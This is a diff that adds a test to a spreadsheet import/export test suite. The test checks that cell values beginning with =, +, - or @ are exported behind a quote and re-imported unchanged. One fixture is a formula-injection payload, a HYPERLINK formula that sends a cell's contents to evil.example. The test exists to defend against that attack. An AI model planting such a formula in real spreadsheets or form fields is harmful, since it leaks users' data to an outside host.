@@ -706,5 +706,26 @@ describe('target standards: libraries, catalogue, points, grants, copy, sync, Ex
       expect(original).toHaveLength(YEAR_POINTS);
       expect(await definitions(lib.id)).toEqual(original);
     });
+
+    it('exports names that would start a formula as text behind a quote, and imports them back as typed (issue 31 item 14)', async () => {
+      const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '+1+1', '-2+3', '@SUM(1,1)'];
+      const lib = await newLibrary();
+      const imported = await importSheet(t, fabu, lib.id, await xlsxOf([
+        HEADER,
+        ...FORMULAS.map((name, i) => ['=指标', '+二级', '-三级', `F-${String(i)}`, name, '@内涵', '-1+2', '0', '5', '整数', '填报', '表格']),
+      ]));
+      expect(imported.body).toMatchObject({ meta: { success: true, message: '导入成功！' }, data: { points: 4 } });
+      const res = await binary(fabu.get(`${API}/quality/export?libraryId=${lib.id}`));
+      expect(res.status).toBe(200);
+      const rows = (await rowsOfXlsx(res.body as Buffer)).slice(1);
+      expect(rows.map((r) => r[4])).toEqual(FORMULAS.map((f) => `'${f}`));
+      expect(rows[0]!.slice(0, 9)).toEqual(["'=指标", "'+二级", "'-三级", 'F-0', `'${FORMULAS[0]!}`, "'@内涵", "'-1+2", '0', '5']);
+      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      // the quote is only in the file: imported again, the names are as typed
+      const again = await newLibrary();
+      expect((await importSheet(t, fabu, again.id, res.body as Buffer)).body).toMatchObject({ meta: { success: true }, data: { points: 4 } });
+      const names = await db.query(`SELECT zkdmc FROM quality_point WHERE library_id = $1 ORDER BY code`, [again.id]);
+      expect(names.map((n: { zkdmc: string }) => n.zkdmc)).toEqual(FORMULAS);
+    });
   });
 });
